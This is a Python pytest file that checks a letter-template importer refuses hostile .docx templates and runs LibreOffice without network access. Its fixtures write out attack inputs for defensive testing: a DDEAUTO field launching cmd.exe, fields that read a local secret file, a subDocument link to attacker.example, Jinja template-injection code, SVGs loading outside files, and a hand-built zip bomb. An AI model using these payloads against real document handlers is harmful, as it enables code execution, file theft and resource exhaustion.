"""A received letter template cannot reach the network, read local files, carry code in any part, or exhaust memory.

Issue 9: every part the template engine renders passes the template-code check; sizes
are checked before unpacking; external relationships, linked pictures and fields that
read files are refused before LibreOffice sees the file; LibreOffice runs with a fresh
profile and without network access.
"""

from __future__ import annotations

import io
import re
import struct
import subprocess
import tracemalloc
import zipfile
import zlib
from xml.sax.saxutils import escape

import pytest
from docx import Document
from letter_helpers import DAY, pdf_text, squash
from PIL import Image

from untoc_desktop.draft.correspondence import letters
from untoc_desktop.letters import LetterOptions, LetterTemplateError, create_letter, output, template_fields
from untoc_desktop.letters.template_package import MAX_PART_BYTES, read_template

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def options(draft):
    return LetterOptions("engagement", "fr", draft.focal.recipient_uuid, attachment=draft.attachment, letter_date=DAY)


def _png(path, colour=(200, 30, 30)):
    Image.new("RGB", (24, 24), colour).save(path)
    return path


def base_template(tmp_path, picture=False):
    document = Document()
    document.sections[0].header.paragraphs[0].text = "{{ organization }} — {{ reference }}"
    document.add_paragraph("{{ date }}")
    if picture:
        document.add_paragraph().add_run().add_picture(str(_png(tmp_path / "logo.png")))
    document.add_paragraph("{{ body }}")
    path = tmp_path / "letterhead.docx"
    document.save(str(path))
    return path


def rewrite(path, change, extra=None):
    """Rewrite a .docx: ``change(name, bytes) -> bytes`` on every part, then add ``extra`` parts."""
    with zipfile.ZipFile(path) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    parts = {name: change(name, data) for name, data in parts.items()}
    parts.update(extra or {})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return path


def linked_picture(tmp_path, target):
    """A template whose logo is linked (``r:link`` to an external relationship), not embedded."""
    path = base_template(tmp_path, picture=True)

    def change(name, data):
        if name == "word/_rels/document.xml.rels":
            text = data.decode()
            text = re.sub(
                r'(<Relationship [^>]*Type="[^"]*/image"[^>]*Target=")[^"]*"',
                lambda m: f'{m.group(1)}{target}" TargetMode="External"',
                text,
            )
            return text.encode()
        if name == "word/document.xml":
            return data.replace(b"r:embed=", b"r:link=")
        return data

    return rewrite(path, change)


def with_field(tmp_path, instruction, simple=False):
    """A template with a Word field (complex, split over two runs, or simple)."""
    path = base_template(tmp_path)
    if simple:
        field = (
            f'<w:p><w:fldSimple w:instr="{escape(instruction, {chr(34): "&quot;"})}"><w:r><w:t>x</w:t></w:r>'
            "</w:fldSimple></w:p>"
        )
    else:
        half = len(instruction) // 2
        field = (
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{instruction[:half]}</w:instrText></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{instruction[half:]}</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    return rewrite(
        path,
        lambda name, data: (
            data.replace(b"<w:sectPr", field.encode() + b"<w:sectPr", 1) if name == "word/document.xml" else data
        ),
    )


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "private" / "secret.png"
    path.parent.mkdir()
    _png(path, (1, 2, 3))
    (tmp_path / "private" / "secret.txt").write_text("SECRET-OF-THE-USER-4711")
    return path


@pytest.fixture
def office_runs(monkeypatch):
    """Every LibreOffice command started (the real one still runs)."""
    commands = []
    real_run = subprocess.run

    def run(command, *args, **kwargs):
        if any("soffice" in str(part) or "libreoffice" in str(part) for part in command):
            commands.append(list(command))
        return real_run(command, *args, **kwargs)

    monkeypatch.setattr(output.subprocess, "run", run)
    return commands


@pytest.mark.parametrize("where", ["http", "file"])
def test_a_linked_picture_is_refused_before_libreoffice_sees_it(
    letter_draft, cluster1, tmp_path, secret, where, no_network, office_runs
):
    target = "http://127.0.0.1:9/logo.png" if where == "http" else secret.as_uri()
    template = linked_picture(tmp_path, target)
    out = tmp_path / "letter.pdf"

    with pytest.raises(LetterTemplateError, match="refused: .*(linked|outside the file)"):
        create_letter(letter_draft, cluster1, options(letter_draft), out, "pdf", template=template)

    assert office_runs == [] and no_network == []
    assert not out.exists()
    assert list(tmp_path.glob("*letter.pdf*")) == []  # no output, not even a temporary one
    assert not any(b"SECRET" in p.read_bytes() for p in tmp_path.iterdir() if p.is_file())
    assert [e.reference for e in letters(letter_draft)] == ["CJR/2026/001"]  # nothing recorded as written


@pytest.mark.parametrize(
    "instruction, simple",
    [
        ('INCLUDEPICTURE "{secret_png}" \\d', False),
        ('INCLUDETEXT "{secret_txt}"', False),
        ('LINK Word.Document.12 "{secret_txt}" ""', True),
        ('HYPERLINK "file:///{secret_txt}"', False),
        ('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"', True),
    ],
)
def test_fields_that_read_other_files_are_refused(
    letter_draft, cluster1, tmp_path, secret, instruction, simple, office_runs
):
    code = instruction.format(secret_png=secret, secret_txt=secret.with_suffix(".txt"))
    template = with_field(tmp_path, code, simple)
    with pytest.raises(LetterTemplateError, match="field .* reads another file|points to a file"):
        template_fields(template)
    with pytest.raises(LetterTemplateError):
        create_letter(letter_draft, cluster1, options(letter_draft), tmp_path / "l.pdf", "pdf", template=template)
    assert office_runs == [] and not (tmp_path / "l.pdf").exists()


def test_other_external_relationships_are_refused(tmp_path):
    template = base_template(tmp_path)
    rewrite(
        template,
        lambda name, data: (
            data.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                b'subDocument" Target="file://attacker.example/share/part.docx" TargetMode="External"/>'
                b"</Relationships>",
            )
            if name == "word/_rels/document.xml.rels"
            else data
        ),
    )
    with pytest.raises(LetterTemplateError, match="subDocument"):
        template_fields(template)


def test_the_attached_template_word_records_is_removed_not_followed(tmp_path):
    template = base_template(tmp_path)

    def change(name, data):
        if name == "word/settings.xml":
            return data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
        return data

    rewrite(
        template,
        change,
        {
            "word/_rels/settings.xml.rels": (
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
                b'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.'
                b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                b'Target="file:///C:/Users/someone/AppData/Roaming/Microsoft/Templates/Normal.dotm" '
                b'TargetMode="External"/></Relationships>'
            )
        },
    )
    with zipfile.ZipFile(template) as original:
        assert b"attachedTemplate" in original.read("word/settings.xml")
    package = read_template(template)
    assert b"Normal.dotm" not in package.parts["word/_rels/settings.xml.rels"]
    assert b"attachedTemplate" not in package.parts["word/settings.xml"]
    assert "date" in template_fields(template)


def _notes_part(kind, text):
    tag = kind[:-1]  # footnote, endnote
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:{kind} xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f'<w:{tag} w:id="1"><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:{tag}></w:{kind}>'
    ).encode()


def _add_part(path, part, content_type, relation_type, data, owner="word/_rels/document.xml.rels", target=None):
    def change(name, blob):
        if name == "[Content_Types].xml":
            return blob.replace(
                b"</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'.encode()
            )
        if name == owner:
            return blob.replace(
                b"</Relationships>",
                f'<Relationship Id="rIdX9" Type="{relation_type}" '
                f'Target="{target or part.split("/", 1)[1]}"/>'
                f"</Relationships>".encode(),
            )
        return blob

    return rewrite(path, change, {part: data})


CODE = "{{ organization.__class__.__mro__ }}"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml"


@pytest.mark.parametrize("where", ["core-title", "app-company", "custom", "footnotes", "endnotes"])
def test_template_code_in_notes_and_document_properties_is_refused(letter_draft, cluster1, tmp_path, where):
    template = base_template(tmp_path)
    if where == "core-title":
        document = Document(str(template))
        document.core_properties.title = CODE
        document.save(str(template))
    elif where == "app-company":
        rewrite(
            template,
            lambda name, data: (
                re.sub(
                    rb"<Company>[^<]*</Company>|</Properties>",
                    lambda m: (
                        f"<Company>{CODE}</Company>".encode()
                        + (b"</Properties>" if m.group(0) == b"</Properties>" else b"")
                    ),
                    data,
                    count=1,
                )
                if name == "docProps/app.xml"
                else data
            ),
        )
    elif where == "custom":
        custom = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://schemas.'
            'openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats'
            '.org/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" '
            f'pid="2" name="Ref"><vt:lpwstr>{CODE}</vt:lpwstr></property></Properties>'
        ).encode()
        _add_part(
            template,
            "docProps/custom.xml",
            "application/vnd.openxmlformats-officedocument.custom-properties+xml",
            f"{R}/custom-properties",
            custom,
            owner="_rels/.rels",
            target="docProps/custom.xml",
        )
    else:
        _add_part(template, f"word/{where}.xml", f"{WML}.{where}+xml", f"{R}/{where}", _notes_part(where, CODE))
    out = tmp_path / "letter.docx"
    with pytest.raises(LetterTemplateError, match="template code"):
        create_letter(letter_draft, cluster1, options(letter_draft), out, "docx", template=template)
    assert not out.exists()


def test_plain_fields_in_a_footnote_are_accepted_and_filled(letter_draft, cluster1, tmp_path):
    template = _add_part(
        base_template(tmp_path),
        "word/footnotes.xml",
        f"{WML}.footnotes+xml",
        f"{R}/footnotes",
        _notes_part("footnotes", "Ref. {{ reference }}"),
    )
    assert "reference" in template_fields(template)
    out = tmp_path / "letter.docx"
    create_letter(letter_draft, cluster1, options(letter_draft), out, "docx", template=template)
    with zipfile.ZipFile(out) as package:
        assert b"Ref. CJR/2026/002" in package.read("word/footnotes.xml")


def _bomb(path, declared=None, gigabytes=1.6):
    """A .docx-looking zip: a real small document plus one part of ``gigabytes`` of zeros (~1.6 MB packed)."""
    buffer = io.BytesIO()
    Document().save(buffer)
    with zipfile.ZipFile(buffer) as source:
        parts = [(n, source.read(n)) for n in source.namelist()]
    chunk = bytes(1024 * 1024)
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = squeeze.compress(chunk) + squeeze.flush(zlib.Z_FULL_FLUSH)
    repeats = int(gigabytes * 1024)
    packed = block * repeats + zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(repeats):
        crc = zlib.crc32(chunk, crc)
    size = repeats * len(chunk)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts:
            target.writestr(name, data)
    # Append the bomb part by hand (zipfile cannot write data that is already compressed).
    blob = bytearray(path.read_bytes())
    end = blob.rfind(b"PK\x05\x06")
    count, directory_size, directory_offset = struct.unpack("<HII", blob[end + 10 : end + 20])
    directory = bytes(blob[directory_offset : directory_offset + directory_size])
    name = b"word/media/image1.png"
    shown = size if declared is None else declared
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(packed), shown, len(name), 0) + name
    offset = directory_offset
    central = (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            8,
            0,
            0,
            crc,
            len(packed),
            shown,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + name
    )
    new_directory = directory + central
    tail = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, count + 1, count + 1, len(new_directory), offset + len(local) + len(packed), 0
    )
    path.write_bytes(bytes(blob[:directory_offset]) + local + packed + new_directory + tail)
    return path


@pytest.mark.parametrize("declared", [None, 1000], ids=["honest-sizes", "lying-sizes"])
def test_a_zip_bomb_is_refused_before_unpacking_with_little_memory(letter_draft, cluster1, tmp_path, declared):
    bomb = _bomb(tmp_path / "bomb.docx", declared)
    assert bomb.stat().st_size < 2 * 1024 * 1024
    tracemalloc.start()
    try:
        with pytest.raises(LetterTemplateError) as refused:
            read_template(bomb)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < MAX_PART_BYTES + 8 * 1024 * 1024, f"{peak / 1e6:.0f} MB used to refuse a zip bomb"
    message = str(refused.value)
    assert "bomb.docx" in message and "Traceback" not in message
    assert ("unpacks to" in message) or ("cannot be read" in message)
    out = tmp_path / "letter.docx"
    with pytest.raises(LetterTemplateError, match="bomb.docx"):
        create_letter(letter_draft, cluster1, options(letter_draft), out, "docx", template=bomb)
    assert not out.exists()


def test_too_many_parts_are_refused(tmp_path):
    template = base_template(tmp_path)
    rewrite(template, lambda _n, d: d, {f"customXml/item{n}.xml": b"<a/>" for n in range(500)})
    with pytest.raises(LetterTemplateError, match="parts"):
        read_template(template)


def test_web_links_lose_their_target_and_libreoffice_runs_isolated_with_a_fresh_profile(
    letter_draft, cluster1, tmp_path, office_runs, no_network
):
    template = base_template(tmp_path)

    def change(name, data):
        if name == "word/_rels/document.xml.rels":
            return data.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdW" Type="http://schemas.openxmlformats.'
                b'org/officeDocument/2006/relationships/hyperlink" Target="http://127.0.0.1:9/track" '
                b'TargetMode="External"/></Relationships>',
            )
        if name == "word/document.xml":
            link = b'<w:p><w:hyperlink r:id="rIdW"><w:r><w:t>Our website</w:t></w:r></w:hyperlink></w:p>'
            return data.replace(b"<w:sectPr", link + b"<w:sectPr", 1)
        return data

    rewrite(template, change)
    package = read_template(template)
    assert package.removed_links == ["http://127.0.0.1:9/track"]
    assert b"127.0.0.1" not in package.parts["word/_rels/document.xml.rels"]
    assert b'r:id="rIdW"' not in package.parts["word/document.xml"]
    out = tmp_path / "letter.pdf"

    create_letter(letter_draft, cluster1, options(letter_draft), out, "pdf", template=template)

    text = squash(pdf_text(out))
    assert "Our website" in text and "CJR/2026/002" in text
    assert b"127.0.0.1" not in out.read_bytes()
    assert len(office_runs) == 1
    command = office_runs[0]
    profile = next(part for part in command if part.startswith("-env:UserInstallation="))
    assert profile.startswith("-env:UserInstallation=file:///") and "untoc-letter-" in profile
    assert output.network_isolation(), "unshare -n is available on Linux CI: LibreOffice must run without network"
    assert command[: len(output.network_isolation())] == list(output.network_isolation())


def test_the_isolation_really_has_no_network():
    prefix = list(output.network_isolation())
    probe = "import socket\ns = socket.socket()\ns.settimeout(2)\nprint(s.connect_ex(('10.255.255.1', 80)))"
    import sys

    result = subprocess.run([*prefix, sys.executable, "-c", probe], capture_output=True, text=True, timeout=30)
    assert prefix and result.returncode == 0 and int(result.stdout) != 0  # unreachable: no interface at all


@pytest.mark.parametrize(
    "svg",
    [
        '<image href="{secret}" width="10" height="10"/>',
        '<image xlink:href="http://127.0.0.1:9/x.png" width="10" height="10"/>',
        '<rect width="10" height="10" style="fill: url(\'{secret}\')"/>',
        '<style>@import url("http://127.0.0.1:9/a.css");</style>',
    ],
)
def test_an_svg_picture_that_loads_other_files_is_refused(tmp_path, secret, svg):
    template = base_template(tmp_path)
    picture = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" '
        f'height="10">{svg.format(secret=secret.as_uri())}</svg>'
    ).encode()
    rewrite(template, lambda _n, d: d, {"word/media/image9.svg": picture})
    with pytest.raises(LetterTemplateError, match="the picture word/media/image9.svg loads"):
        template_fields(template)


def test_an_svg_picture_with_inner_references_only_is_accepted(tmp_path):
    template = base_template(tmp_path)
    picture = (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><defs><linearGradient id="g"/>'
        b'</defs><rect width="10" height="10" fill="url(#g)"/></svg>'
    )
    rewrite(template, lambda _n, d: d, {"word/media/image9.svg": picture})
    assert "date" in template_fields(template)
